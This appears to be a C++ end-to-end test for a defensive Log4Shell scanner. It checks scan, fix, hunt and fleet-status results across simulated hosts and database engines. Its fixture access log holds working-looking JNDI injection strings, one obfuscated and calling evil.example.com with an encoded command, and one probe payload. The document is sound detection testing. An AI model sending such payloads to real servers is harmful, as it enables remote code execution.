// End to end: real outputs of scan, fix and hunt (the built binary on the
// fixtures and on scratch copies under the build folder) and of the canary
// and probe sinks, for several simulated hosts over simulated days, imported
// into SQLite and into a private PostgreSQL server; `fleet status` must give
// the answers written below by hand on both engines. The HTML report is
// opened in headless Chromium; SARIF and CycloneDX are checked against their
// schemas' required fields.
#include <fcntl.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <map>
#include <set>
#include <sstream>
#include <string>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "fleet/db.h"
#include "net/callback.h"
#include "probe/probe_report.h"
#include "report/schema_checks.h"
#include "tests/fleet/pg_server.h"
#include "tests/fleet/webdriver.h"
#include "../shell.h"

namespace fs = std::filesystem;
using nlohmann::json;

namespace {

const std::string kJars = std::string(L4S_FIXTURES_DIR) + "/jars";
const std::string kTrue141 = kJars + "/mergebase-log4j-samples/true-hits/log4j-core-2.14.1.jar";
const std::string kGoogle150 = kJars + "/google-log4jscanner/jar/testdata/log4j-core-2.15.0.jar";
const std::string kGoogle160 = kJars + "/google-log4jscanner/jar/testdata/log4j-core-2.16.0.jar";
const std::string kOk171 = kJars + "/logpresso-CVE-2021-44228-Scanner/src/test/resources/log4j2-ok/log4j-core-2.17.1.jar";

struct CmdResult {
  int rc = -1;
  std::string out;
};

CmdResult run(const std::string& cmd) {
  l4s::test::ShellResult r = l4s::test::run_shell(cmd + " 2>/dev/null");
  return {r.exit_code, std::move(r.out)};
}

std::string q(const std::string& s) { return l4s::test::shell_quote(s); }
const std::string kBin = L4S_BINARY;

json read_json(const std::string& path) {
  std::ifstream in(path);
  return json::parse(in);
}
void write_text(const std::string& path, const std::string& text) { std::ofstream(path, std::ios::binary) << text; }

// Simulated host and day: the real report with its host and times set.
void retime(const std::string& path, const std::string& host, const std::string& time) {
  json j = read_json(path);
  j["host"] = host;
  j["started"] = time;
  j["finished"] = time;
  write_text(path, j.dump(2));
}

class FleetE2E : public ::testing::Test {
 protected:
  static inline std::string dir;
  static inline std::vector<std::string> reports;  // in import order
  static inline std::string hunt_report, canary_report, probe_report;
  static inline std::string skip;     // fixtures absent
  static inline std::string failure;  // a command that must work did not

  static void SetUpTestSuite() {
    if (!fs::exists(kTrue141) || !fs::exists(kGoogle160)) {
      skip = "fixtures absent: " + kJars;
      return;
    }
    // One folder per process: ctest runs each test as its own process, in parallel.
    const std::string root = std::string(L4S_TEST_TMP) + "/fleet-e2e";
    dir = root + "/" + std::to_string(getpid());
    fs::remove_all(dir);
    fs::create_directories(dir);
    // The reports are made once per build of the binary and shared by the
    // test processes (ctest runs each test alone); a lock orders them.
    struct stat bin_st {};
    stat(L4S_BINARY, &bin_st);
    const std::string shared = root + "/reports-" + std::to_string(bin_st.st_mtim.tv_sec) + "." +
                               std::to_string(bin_st.st_mtim.tv_nsec) + "-" + std::to_string(bin_st.st_size);
    int lock = open((root + "/lock").c_str(), O_CREAT | O_RDWR | O_CLOEXEC, 0644);
    flock(lock, LOCK_EX);
    struct Unlock {
      int fd;
      ~Unlock() { close(fd); }
    } unlock{lock};
    auto out = [&](const std::string& name) { return shared + "/reports/" + name; };
    reports = {out("web01-1.json"), out("web01-fix.json"), out("web01-2.jsonl"), out("web02.json"),
               out("db03.json"),    out("app04-1.json"),   out("app04-2.json")};
    hunt_report = out("app04-hunt.jsonl");
    canary_report = out("canary.jsonl");
    probe_report = out("probe.jsonl");
    if (fs::exists(shared + "/done")) return;
    fs::remove_all(shared);
    fs::create_directories(shared + "/reports");
    auto must = [&](const std::string& cmd, std::initializer_list<int> ok) {
      CmdResult r = run(cmd);
      for (int rc : ok)
        if (r.rc == rc) return;
      if (failure.empty()) failure = "command failed (exit " + std::to_string(r.rc) + "): " + cmd;
    };

    // web01: 2.14.1 on 11-20, fixed by `log4shield fix` on 11-21, rescanned on 11-22.
    const std::string w1 = shared + "/hosts/web01/opt/app";
    fs::create_directories(w1);
    fs::copy_file(kTrue141, w1 + "/log4j-core-2.14.1.jar");
    must(kBin + " scan -q --host-name web01 --format json -o " + out("web01-1.json") + " " + w1, {1});
    retime(out("web01-1.json"), "web01", "2026-11-20T09:00:00Z");
    must(kBin + " fix -q --backup-dir " + shared + "/backups --format json -o " + out("web01-fix.json") + " " + w1, {0});
    retime(out("web01-fix.json"), "web01", "2026-11-21T15:30:00Z");
    must(kBin + " scan -q --host-name web01 --format jsonl -o " + out("web01-2.jsonl") + " " + w1, {0});
    {  // jsonl: the host and times are on every line / the summary.
      std::ifstream in(out("web01-2.jsonl"));
      std::string line, text;
      while (std::getline(in, line)) {
        json j = json::parse(line);
        if (j["type"] == "summary") j["started"] = j["finished"] = "2026-11-22T08:00:00Z";
        text += j.dump() + "\n";
      }
      write_text(out("web01-2.jsonl"), text);
    }
    // web02: one safe 2.17.1 on 11-22 (scanned in place, read-only fixtures).
    must(kBin + " scan -q --host-name web02 --format json -o " + out("web02.json") + " " + q(kOk171), {0});
    retime(out("web02.json"), "web02", "2026-11-22T10:00:00Z");
    // db03: 2.14.1 and 2.15.0, scanned once long ago.
    must(kBin + " scan -q --host-name db03 --format json -o " + out("db03.json") + " " + q(kTrue141) + " " + q(kGoogle150),
         {1});
    retime(out("db03.json"), "db03", "2026-10-01T12:00:00Z");
    // app04: 2.16.0 on 11-20, the jar deleted before the 11-23 scan.
    const std::string a4 = shared + "/hosts/app04/srv";
    fs::create_directories(a4);
    fs::copy_file(kGoogle160, a4 + "/log4j-core-2.16.0.jar");
    must(kBin + " scan -q --host-name app04 --format json -o " + out("app04-1.json") + " " + a4, {1});
    retime(out("app04-1.json"), "app04", "2026-11-20T11:00:00Z");
    fs::remove(a4 + "/log4j-core-2.16.0.jar");
    must(kBin + " scan -q --host-name app04 --format json -o " + out("app04-2.json") + " " + a4, {0});
    retime(out("app04-2.json"), "app04", "2026-11-23T11:00:00Z");

    // app04's access log: three attempts that reach JNDI, one harmless ${...}.
    write_text(shared + "/access.log",
               "198.51.100.23 - - [10/Dec/2021:12:01:02 +0000] \"GET /?x=${jndi:ldap://198.51.100.23:1389/a} "
               "HTTP/1.1\" 200 12 \"-\" \"curl\"\n"
               "203.0.113.9 - - [10/Dec/2021:13:05:00 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" "
               "\"${${lower:j}ndi:ldap://evil.example.com/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}\"\n"
               "203.0.113.9 - - [10/Dec/2021:13:06:00 +0000] \"GET / HTTP/1.1\" 200 12 \"-\" "
               "\"${jndi:rmi://evil.example.com:1099/x}\"\n"
               "10.0.0.1 - - [10/Dec/2021:14:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 12 \"-\" "
               "\"Mozilla ${user.home}\"\n");
    must(kBin + " hunt --format jsonl -o " + hunt_report + " " + shared + "/access.log", {1});

    // The canary's and the prober's own sinks.
    std::string canary;
    for (int i = 0; i < 2; ++i) {
      l4s::net::Callback cb;
      cb.id = i + 1;
      cb.time_ms = 1795939200000 + i * 1000;  // 2026-11-29T08:00:00Z, after every scan
      cb.protocol = i ? l4s::net::Protocol::kDns : l4s::net::Protocol::kLdap;
      cb.peer = "10.1.0.1" + std::to_string(i) + ":40000";
      cb.listener = "0.0.0.0:1389";
      cb.token = "tok" + std::to_string(i);
      cb.name = "tok" + std::to_string(i) + "/a";
      canary += l4s::net::format_json(cb) + "\n";
    }
    write_text(canary_report, canary);
    l4s::net::TargetResult t;
    t.target = "http://web01:8080/login";
    t.sent = 40;
    l4s::net::PointResult hit;
    hit.probe.token = "tok0";
    hit.probe.point = "header:User-Agent";
    hit.probe.variant = "ldap";
    hit.probe.payload = "${jndi:ldap://canary:1389/tok0}";
    hit.probe.time_ms = 1795939199000;
    l4s::net::Callback cb;
    cb.time_ms = 1795939200000;
    cb.peer = "10.1.0.10:40000";
    cb.name = "tok0/a";
    hit.callbacks.push_back(cb);
    t.hits.push_back(hit);
    t.statuses = {200};
    l4s::net::TargetResult clean;
    clean.target = "http://web02:8080/";
    clean.sent = 40;
    write_text(probe_report, l4s::net::format_report_jsonl({t, clean}));
    if (failure.empty()) write_text(shared + "/done", "");
  }

  static void TearDownTestSuite() {
    std::error_code ec;
    if (!dir.empty()) fs::remove_all(dir, ec);
  }

  void SetUp() override {
    if (!skip.empty()) GTEST_SKIP() << skip;
    ASSERT_EQ(failure, "");
  }

  // Imports everything into `db` (twice: the second time must change
  // nothing) and checks `fleet status` against the expectations.
  void check_engine(const std::string& db) {
    auto import = [&](const std::vector<std::string>& files, const std::string& host) {
      std::string cmd = kBin + " fleet import -q --db " + q(db);
      if (!host.empty()) cmd += " --host " + host;
      for (const auto& f : files) cmd += " " + q(f);
      return run(cmd).rc;
    };
    auto counts = [&]() {
      auto conn = l4s::fleet::open_db(db);
      EXPECT_TRUE(conn.ok()) << conn.error();
      std::map<std::string, std::string> out;
      for (const char* t : {"reports", "findings", "scan_errors", "detections", "callbacks", "probe_results"}) {
        auto rows = (*conn)->query(std::string("SELECT COUNT(*) FROM ") + t);
        EXPECT_TRUE(rows.ok()) << rows.error();
        out[t] = *(*rows)[0][0];
      }
      return out;
    };
    for (int round = 0; round < 2; ++round) {
      ASSERT_EQ(import(reports, ""), 0);
      ASSERT_EQ(import({hunt_report}, "app04"), 0);
      ASSERT_EQ(import({canary_report}, "canary"), 0);
      ASSERT_EQ(import({probe_report}, "prober"), 0);
    }
    auto c = counts();
    EXPECT_EQ(c["reports"], "10");
    EXPECT_EQ(c["findings"], "7");  // 1 + 1 + 1 (web01) + 1 (web02) + 2 (db03) + 1 (app04) + 0
    EXPECT_EQ(c["detections"], "3");
    EXPECT_EQ(c["callbacks"], "2");
    EXPECT_EQ(c["probe_results"], "2");
    // Two importers at once (other reports, same files): each report lands once.
    {
      std::string files;
      for (const auto& f : reports) files += " " + q(f);
      const std::string cmd = kBin + " fleet import -q --host racer --db " + q(db) + files;
      FILE* a = popen((cmd + " >/dev/null 2>&1; echo $?").c_str(), "r");
      FILE* b = popen((cmd + " >/dev/null 2>&1; echo $?").c_str(), "r");
      char ra[16] = {}, rb[16] = {};
      ASSERT_TRUE(fgets(ra, sizeof ra, a) && fgets(rb, sizeof rb, b));
      pclose(a);
      pclose(b);
      EXPECT_EQ(std::string(ra), "0\n");
      EXPECT_EQ(std::string(rb), "0\n");
      auto raced = counts();
      EXPECT_EQ(raced["reports"], "17");   // 10 + the 7 scan reports again, as host "racer"
      EXPECT_EQ(raced["findings"], "14");
      // Take them out again so the answers below are about the four hosts.
      auto conn = l4s::fleet::open_db(db);
      ASSERT_TRUE(conn.ok());
      ASSERT_TRUE((*conn)->query("DELETE FROM findings WHERE host = 'racer'").ok());
      ASSERT_TRUE((*conn)->query("DELETE FROM scan_errors WHERE host = 'racer'").ok());
      ASSERT_TRUE((*conn)->query("DELETE FROM reports WHERE host = 'racer'").ok());
      EXPECT_EQ(counts(), c);
    }
    // Stdin, and the same report under another file name: still nothing new.
    ASSERT_EQ(run(kBin + " fleet import -q --db " + q(db) + " - < " + q(reports[0])).rc, 0);
    EXPECT_EQ(counts(), c);

    // Whole history, as JSON.
    CmdResult st = run(kBin + " fleet status --format json --db " + q(db));
    ASSERT_EQ(st.rc, 1) << "db03 is still exposed";
    json s = json::parse(st.out);
    EXPECT_EQ(s["hosts_known"], 4);
    EXPECT_EQ(s["hosts_exposed"], 1);
    std::map<std::string, json> host;
    for (const auto& h : s["hosts"]) host[h["host"]] = h;
    ASSERT_EQ(host.size(), 4u);
    EXPECT_EQ(host["web01"]["scans"], 3);
    EXPECT_EQ(host["web01"]["exposed"], false);
    EXPECT_EQ(host["web01"]["mitigated"], 1);
    EXPECT_EQ(host["web01"]["severity"], "medium");
    EXPECT_EQ(host["web01"]["last_scan"], "2026-11-22T08:00:00Z");
    EXPECT_EQ(host["web01"]["confirmed_callbacks"], 1);
    EXPECT_EQ(host["web02"]["exposed"], false);
    EXPECT_EQ(host["web02"]["safe"], 1);
    EXPECT_EQ(host["web02"]["severity"], "none");
    EXPECT_EQ(host["db03"]["exposed"], true);
    EXPECT_EQ(host["db03"]["vulnerable"], 2);
    EXPECT_EQ(host["db03"]["severity"], "critical");
    EXPECT_EQ(host["db03"]["last_scan"], "2026-10-01T12:00:00Z");
    EXPECT_EQ(host["app04"]["exposed"], false);
    EXPECT_EQ(host["app04"]["current"].size(), 0u);
    EXPECT_EQ(host["app04"]["scans"], 2);
    EXPECT_EQ(host["app04"]["attempts"], 3);
    EXPECT_EQ(host["app04"]["attempts_reaching_jndi"], 3);
    EXPECT_EQ(host["app04"]["first_attempt"], "2021-12-10T12:01:02Z");
    EXPECT_EQ(host["app04"]["last_attempt"], "2021-12-10T13:06:00Z");
    EXPECT_EQ(host["app04"]["attack_sources"], json({"198.51.100.23", "203.0.113.9"}));
    const json& cve = s["exposed_by_cve"];
    EXPECT_EQ(cve["CVE-2021-44228"]["host_list"], json({"db03"}));
    EXPECT_EQ(cve["CVE-2021-45046"]["host_list"], json({"db03"}));
    EXPECT_EQ(cve["CVE-2021-45105"]["host_list"], json({"db03", "web01"}));
    EXPECT_EQ(cve["CVE-2021-44832"]["host_list"], json({"db03", "web01"}));
    EXPECT_EQ(cve.size(), 4u);
    EXPECT_EQ(s["hosts_by_severity"], json({{"critical", 1}, {"medium", 1}}));
    ASSERT_EQ(s["fixed"].size(), 2u);
    EXPECT_EQ(s["fixed"][0]["host"], "web01");
    EXPECT_EQ(s["fixed"][0]["how"], "fix");
    EXPECT_EQ(s["fixed"][0]["fixed_at"], "2026-11-21T15:30:00Z");
    EXPECT_EQ(s["fixed"][0]["version"], "2.14.1");
    EXPECT_EQ(s["fixed"][0]["now"], "mitigated");
    EXPECT_EQ(s["fixed"][1]["host"], "app04");
    EXPECT_EQ(s["fixed"][1]["how"], "removed");
    EXPECT_EQ(s["fixed"][1]["fixed_at"], "2026-11-23T11:00:00Z");
    EXPECT_EQ(s["fixed"][1]["version"], "2.16.0");
    const json& atk = s["attacks"];
    EXPECT_EQ(atk["attempts"], 3);
    EXPECT_EQ(atk["by_hour"], json::parse(R"([{"key":"2021-12-10T12","count":1},{"key":"2021-12-10T13","count":2}])"));
    EXPECT_EQ(atk["top_sources"][0], json::parse(R"({"key":"203.0.113.9","count":2})"));
    EXPECT_EQ(atk["top_callback_hosts"][0], json::parse(R"({"key":"evil.example.com","count":2})"));
    EXPECT_EQ(atk["decoded_commands"], json::parse(R"([{"key":"touch /tmp/pwned","count":1}])"));
    EXPECT_EQ(s["callbacks"]["count"], 2);
    ASSERT_EQ(s["callbacks"]["confirmed_targets"].size(), 1u);
    EXPECT_EQ(s["callbacks"]["confirmed_targets"][0]["host"], "web01");
    // Progress by day: exposed hosts 10-01: db03; 11-20: +web01 +app04; 11-21: web01 fixed; 11-23: app04 gone.
    std::map<std::string, int> exposed;
    for (const auto& p : s["progress"]) exposed[p["day"]] = p["exposed"];
    EXPECT_EQ(exposed, (std::map<std::string, int>{
                           {"2026-10-01", 1}, {"2026-11-20", 3}, {"2026-11-21", 2}, {"2026-11-22", 2}, {"2026-11-23", 1}}));

    // Since 11-15: db03 is stale; the 2021 attempts no longer count; callbacks do.
    st = run(kBin + " fleet status --format json --since 2026-11-15 --db " + q(db));
    s = json::parse(st.out);
    EXPECT_EQ(s["not_scanned_since"], json({"db03"}));
    EXPECT_EQ(s["attacks"]["attempts"], 0);
    EXPECT_EQ(s["fixed"].size(), 2u);
    EXPECT_EQ(s["callbacks"]["count"], 2);
    // CSV and text carry the same answers.
    CmdResult csv = run(kBin + " fleet status --format csv --since 2026-11-15 --db " + q(db));
    EXPECT_THAT(csv.out, ::testing::HasSubstr("\"db03\",\"2026-10-01T12:00:00Z\",1,true,critical,"
                                              "\"CVE-2021-44228 CVE-2021-44832 CVE-2021-45046 CVE-2021-45105\",2,0,0,0,0,0,"
                                              "\"\",\"\",0,true"));
    CmdResult text = run(kBin + " fleet status --db " + q(db));
    EXPECT_THAT(text.out, ::testing::HasSubstr("Fleet: 4 hosts, 1 exposed"));
    EXPECT_THAT(text.out, ::testing::HasSubstr("CVE-2021-44228      1 host: db03"));

    // SARIF and CycloneDX of the current state, from the store.
    CmdResult sarif = run(kBin + " report --format sarif --db " + q(db));
    json sj = json::parse(sarif.out);
    EXPECT_EQ(l4s::report::schema::check_sarif_2_1_0(sj), std::vector<std::string>{});
    size_t results = 0;
    for (const auto& r : sj["runs"]) results += r["results"].size();
    EXPECT_EQ(results, 3u);  // db03: 2 vulnerable; web01: 1 mitigated (review)
    CmdResult cdx = run(kBin + " report --format cyclonedx --db " + q(db));
    json cj = json::parse(cdx.out);
    EXPECT_EQ(l4s::report::schema::check_cyclonedx_1_5(cj), std::vector<std::string>{});
    std::set<std::string> states;
    for (const auto& v : cj["vulnerabilities"])
      states.insert(v["id"].get<std::string>() + " " + v["analysis"]["state"].get<std::string>());
    EXPECT_TRUE(states.count("CVE-2021-44228 not_affected"));  // web01's fixed copy
    EXPECT_TRUE(states.count("CVE-2021-44228 exploitable"));   // db03
    CmdResult stix = run(kBin + " report --format stix --db " + q(db));
    json bundle = json::parse(stix.out);
    EXPECT_EQ(bundle["type"], "bundle");
    EXPECT_THAT(stix.out, ::testing::HasSubstr("[domain-name:value = 'evil.example.com']"));
    CmdResult misp = run(kBin + " report --format misp-csv --db " + q(db));
    EXPECT_THAT(misp.out, ::testing::HasSubstr("evil.example.com"));
  }
};

TEST_F(FleetE2E, SqliteStoreAnswersByHand) {
  const std::string db = dir + "/fleet.db";
  fs::remove(db);
  check_engine(db);
}

TEST_F(FleetE2E, PostgresqlStoreAnswersByHand) {
  if (l4s::testing::PgServer::bin_dir().empty())
    GTEST_SKIP() << "PostgreSQL server binaries absent (apt-get install postgresql); engine not tested";
  l4s::testing::PgServer pg;
  std::string why = pg.start(dir);
  ASSERT_EQ(why, "");
  {
    auto admin = l4s::fleet::open_db(pg.uri());
    ASSERT_TRUE(admin.ok()) << admin.error();
    ASSERT_TRUE((*admin)->exec("CREATE DATABASE fleet").ok());
  }
  check_engine(pg.uri("fleet"));
}

TEST_F(FleetE2E, ScanSarifAndCycloneDxConform) {
  CmdResult sarif = run(kBin + " scan -q --format sarif " + kJars + "/mergebase-log4j-samples");
  ASSERT_EQ(sarif.rc, 1);
  json sj = json::parse(sarif.out);
  EXPECT_EQ(l4s::report::schema::check_sarif_2_1_0(sj), std::vector<std::string>{});
  EXPECT_GT(sj["runs"][0]["results"].size(), 10u);
  CmdResult cdx = run(kBin + " scan -q --format cyclonedx " + kJars + "/mergebase-log4j-samples");
  json cj = json::parse(cdx.out);
  EXPECT_EQ(l4s::report::schema::check_cyclonedx_1_5(cj), std::vector<std::string>{});
  bool exploitable_44228 = false;
  for (const auto& v : cj["vulnerabilities"])
    exploitable_44228 |= v["id"] == "CVE-2021-44228" && v["analysis"]["state"] == "exploitable";
  EXPECT_TRUE(exploitable_44228);
}

TEST_F(FleetE2E, ReportFromFilesWithoutAStore) {
  std::string cmd = kBin + " report -o " + q(dir + "/files.html");
  for (const auto& f : reports) cmd += " " + q(f);
  ASSERT_EQ(run(cmd).rc, 0);
  std::ifstream in(dir + "/files.html");
  std::string html((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  EXPECT_THAT(html, ::testing::HasSubstr("data-metric=\"hosts\"><div class=\"n\">4<"));
  EXPECT_THAT(html, ::testing::HasSubstr("data-metric=\"hosts_exposed\"><div class=\"n\">1<"));
  // A file that is no report: the others still count, the exit code says so.
  write_text(dir + "/junk.json", "{\"hello\": 1}\n");
  CmdResult bad = run(kBin + " fleet import -q --db " + q(dir + "/junk.db") + " " + q(dir + "/junk.json") + " " +
                      q(reports[3]));
  EXPECT_EQ(bad.rc, 2);
  json s = json::parse(run(kBin + " fleet status --format json --db " + q(dir + "/junk.db")).out);
  EXPECT_EQ(s["reports"], 1);
}

TEST_F(FleetE2E, HtmlReportInHeadlessChromium) {
  const std::string db = dir + "/html.db";
  fs::remove(db);
  for (const auto& f : reports) ASSERT_EQ(run(kBin + " fleet import -q --db " + q(db) + " " + q(f)).rc, 0);
  ASSERT_EQ(run(kBin + " fleet import -q --host app04 --db " + q(db) + " " + q(hunt_report)).rc, 0);
  ASSERT_EQ(run(kBin + " fleet import -q --db " + q(db) + " " + q(canary_report) + " " + q(probe_report)).rc, 0);
  // Kept under the build folder for people to look at.
  const std::string html = std::string(L4S_TEST_TMP) + "/fleet-report.html";
  ASSERT_EQ(run(kBin + " report --db " + q(db) + " -o " + q(html)).rc, 0);
  json s = json::parse(run(kBin + " fleet status --format json --db " + q(db)).out);

  l4s::testing::WebDriver wd;
  std::string why = wd.start(dir + "/chromium-profile");
  if (why.find("not installed") != std::string::npos) GTEST_SKIP() << why;
  ASSERT_EQ(why, "");
  ASSERT_TRUE(wd.navigate("file://" + html));
  auto card = [&](const std::string& metric) { return wd.text(wd.find("[data-metric=" + metric + "] .n")); };
  // Rendered numbers against the store's.
  EXPECT_EQ(card("hosts"), std::to_string(s["hosts_known"].get<int>()));
  EXPECT_EQ(card("hosts_exposed"), std::to_string(s["hosts_exposed"].get<int>()));
  EXPECT_EQ(card("fixed"), std::to_string(s["fixed"].size()));
  EXPECT_EQ(card("attempts"), std::to_string(s["attacks"]["attempts"].get<int>()));
  EXPECT_EQ(card("callbacks"), std::to_string(s["callbacks"]["count"].get<int>()));
  EXPECT_EQ(card("hosts_exposed"), "1");
  EXPECT_EQ(card("vulnerable_copies"), "2");
  EXPECT_EQ(wd.text(wd.find("#shown")), "4 of 4 findings");
  json host_rows = wd.script(
      "return Array.from(document.querySelectorAll('#hosts tbody tr')).map(r => r.cells[0].textContent + ' ' + "
      "r.cells[1].textContent + ' ' + r.cells[4].textContent)");
  EXPECT_EQ(host_rows, json({"app04 not exposed 0", "db03 exposed 2", "web01 not exposed 0", "web02 not exposed 0"}));
  // Click "Host" twice: descending order puts web02 first.
  std::string host_th = wd.find("#findings th:nth-child(1)");
  ASSERT_TRUE(wd.click(host_th));
  ASSERT_TRUE(wd.click(host_th));
  json hosts = wd.script("return Array.from(document.querySelectorAll('#findings tbody tr')).map(r => r.cells[0].textContent)");
  EXPECT_EQ(hosts, json({"web02", "web01", "db03", "db03"}));
  // Severity (numeric) ascending: none, medium, critical, critical.
  ASSERT_TRUE(wd.click(wd.find("#findings th:nth-child(6)")));
  json sev = wd.script("return Array.from(document.querySelectorAll('#findings tbody tr')).map(r => r.cells[5].textContent)");
  EXPECT_EQ(sev, json({"none", "medium", "critical", "critical"}));
  // Filter.
  ASSERT_TRUE(wd.type(wd.find("#filter"), "db03 2.15"));
  json visible = wd.script(
      "return Array.from(document.querySelectorAll('#findings tbody tr')).filter(r => r.style.display !== 'none')"
      ".map(r => r.cells[0].textContent + ' ' + r.cells[3].textContent)");
  EXPECT_EQ(visible, json({"db03 2.15.0"}));
  EXPECT_EQ(wd.text(wd.find("#shown")), "1 of 4 findings");
  // Nothing was fetched: the page holds no external resource.
  json external = wd.script("return performance.getEntriesByType('resource').length");
  EXPECT_EQ(external, 0);
  const std::string png = std::string(L4S_TEST_TMP) + "/fleet-report.png";
  fs::remove(png);
  EXPECT_TRUE(wd.screenshot(png));
  EXPECT_GT(fs::file_size(png), 10000u);
}

}  // namespace
